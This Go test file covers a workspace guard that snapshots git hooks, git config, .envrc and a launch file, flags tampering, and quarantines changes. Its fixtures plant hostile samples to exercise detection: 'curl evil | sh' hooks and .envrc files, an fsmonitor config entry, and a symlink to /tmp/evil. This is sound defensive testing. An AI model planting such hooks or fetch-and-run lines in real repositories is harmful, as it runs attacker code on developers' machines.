package guard

import (
	"os"
	"path/filepath"
	"reflect"
	"slices"
	"strings"
	"testing"
	"time"
)

func TestPaths(t *testing.T) {
	got, err := Paths([]string{"tools/hooks/", ".git/hooks"}, []string{".idea", "./.vscode"})
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{".launch.toml", ".git/hooks", ".git/config", ".envrc", "tools/hooks"} {
		if !slices.Contains(got, want) {
			t.Errorf("Paths() = %v, lacks %q", got, want)
		}
	}
	for _, gone := range []string{".idea", ".vscode"} {
		if slices.Contains(got, gone) {
			t.Errorf("Paths() = %v, still holds removed %q", got, gone)
		}
	}
	if !slices.IsSorted(got) || len(slices.Compact(slices.Clone(got))) != len(got) {
		t.Errorf("Paths() = %v, want sorted and unique", got)
	}
	for _, bad := range []struct{ add, remove []string }{
		{remove: []string{".launch.toml"}},
		{add: []string{"/etc/passwd"}},
		{add: []string{"../up"}},
		{add: []string{"."}},
		{remove: []string{""}},
	} {
		if _, err := Paths(bad.add, bad.remove); err == nil {
			t.Errorf("Paths(%q, %q): no error", bad.add, bad.remove)
		}
	}
}

// workspace makes a workspace with a git repository and returns its path.
func workspace(t *testing.T) string {
	t.Helper()
	ws := t.TempDir()
	for p, content := range map[string]string{
		".git/config":                  "[core]\n\tbare = false\n",
		".git/hooks/pre-commit.sample": "#!/bin/sh\n",
		".git/HEAD":                    "ref: refs/heads/main\n",
		".launch.toml":                 "network = \"none\"\n",
		"src/main.go":                  "package main\n",
	} {
		write(t, filepath.Join(ws, p), content)
	}
	return ws
}

func write(t *testing.T, p, content string) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
}

func changed(t *testing.T, s Snapshot) []string {
	t.Helper()
	cs, err := s.Changed()
	if err != nil {
		t.Fatal(err)
	}
	var out []string
	for _, c := range cs {
		out = append(out, c.Rel)
	}
	return out
}

func TestChanged(t *testing.T) {
	tests := []struct {
		name string
		act  func(t *testing.T, ws string)
		want []string
	}{
		{"nothing", func(t *testing.T, ws string) {
			write(t, filepath.Join(ws, "src/new.go"), "package main\n")
			write(t, filepath.Join(ws, ".git/HEAD"), "ref: refs/heads/other\n")
		}, nil},
		{"hook-planted", func(t *testing.T, ws string) {
			write(t, filepath.Join(ws, ".git/hooks/post-checkout"), "#!/bin/sh\ncurl evil | sh\n")
		}, []string{".git/hooks"}},
		{"sample-added", func(t *testing.T, ws string) {
			write(t, filepath.Join(ws, ".git/hooks/pre-push.sample"), "#!/bin/sh\n")
		}, nil},
		{"config-fsmonitor", func(t *testing.T, ws string) {
			write(t, filepath.Join(ws, ".git/config"), "[core]\n\tfsmonitor = /tmp/x\n")
		}, []string{".git/config"}},
		{"envrc-created", func(t *testing.T, ws string) {
			write(t, filepath.Join(ws, ".envrc"), "curl evil | sh\n")
		}, []string{".envrc"}},
		{"mode-changed", func(t *testing.T, ws string) {
			if err := os.Chmod(filepath.Join(ws, ".launch.toml"), 0o666); err != nil {
				t.Fatal(err)
			}
		}, []string{".launch.toml"}},
		{"link-planted", func(t *testing.T, ws string) {
			if err := os.Symlink("/tmp/evil", filepath.Join(ws, ".envrc")); err != nil {
				t.Fatal(err)
			}
		}, []string{".envrc"}},
		{"parent-renamed-and-replaced", func(t *testing.T, ws string) {
			// The read-only mounts sit on .git/hooks and .git/config; a
			// rename of .git takes them along, and a new .git has none.
			if err := os.Rename(filepath.Join(ws, ".git"), filepath.Join(ws, ".git-old")); err != nil {
				t.Fatal(err)
			}
			write(t, filepath.Join(ws, ".git/config"), "[core]\n\tbare = false\n")
			write(t, filepath.Join(ws, ".git/hooks/pre-commit.sample"), "#!/bin/sh\n")
			write(t, filepath.Join(ws, ".git/hooks/pre-commit"), "#!/bin/sh\nevil\n")
		}, []string{".git/hooks"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			ws := workspace(t)
			rels, err := Paths(nil, nil)
			if err != nil {
				t.Fatal(err)
			}
			s, err := Take(ws, rels)
			if err != nil {
				t.Fatal(err)
			}
			tt.act(t, ws)
			if got := changed(t, s); !reflect.DeepEqual(got, tt.want) {
				t.Errorf("changed = %q, want %q", got, tt.want)
			}
		})
	}
}

func TestUndo(t *testing.T) {
	ws := workspace(t)
	rels, _ := Paths(nil, nil)
	s, err := Take(ws, rels)
	if err != nil {
		t.Fatal(err)
	}
	write(t, filepath.Join(ws, ".git/hooks/post-checkout"), "evil\n")
	write(t, filepath.Join(ws, ".envrc"), "evil\n")
	cs, err := s.Changed()
	if err != nil {
		t.Fatal(err)
	}
	cs, err = Undo(cs, time.Date(2026, 12, 1, 15, 4, 5, 0, time.UTC))
	if err != nil {
		t.Fatal(err)
	}
	if len(cs) != 2 {
		t.Fatalf("Undo = %+v, want 2 changes", cs)
	}
	for _, c := range cs {
		if !strings.HasSuffix(c.MovedTo, ".launch-quarantine-20261201T150405Z") {
			t.Errorf("%s moved to %q", c.Rel, c.MovedTo)
		}
		if _, err := os.Lstat(c.Path); !os.IsNotExist(err) {
			t.Errorf("%s still in place after Undo: %v", c.Path, err)
		}
		if _, err := os.Stat(c.MovedTo); err != nil {
			t.Errorf("%s not kept for review: %v", c.MovedTo, err)
		}
	}
	if cs[0].Rel != ".envrc" || cs[0].Existed || cs[1].Rel != ".git/hooks" || !cs[1].Existed {
		t.Errorf("changes = %+v", cs)
	}
	if got := changed(t, s); len(got) != 1 || got[0] != ".git/hooks" {
		// .envrc is absent again; .git/hooks is gone rather than as before.
		t.Errorf("after Undo, changed = %q", got)
	}
}

func TestGitdirFile(t *testing.T) {
	// In a git worktree .git is a file: .git/hooks cannot exist, and that is
	// not an error.
	ws := t.TempDir()
	write(t, filepath.Join(ws, ".git"), "gitdir: /elsewhere\n")
	s, err := Take(ws, []string{".git/hooks", ".git/config"})
	if err != nil {
		t.Fatal(err)
	}
	if s[0].Print != absent || s[1].Print != absent {
		t.Errorf("Take = %+v, want absent", s)
	}
}
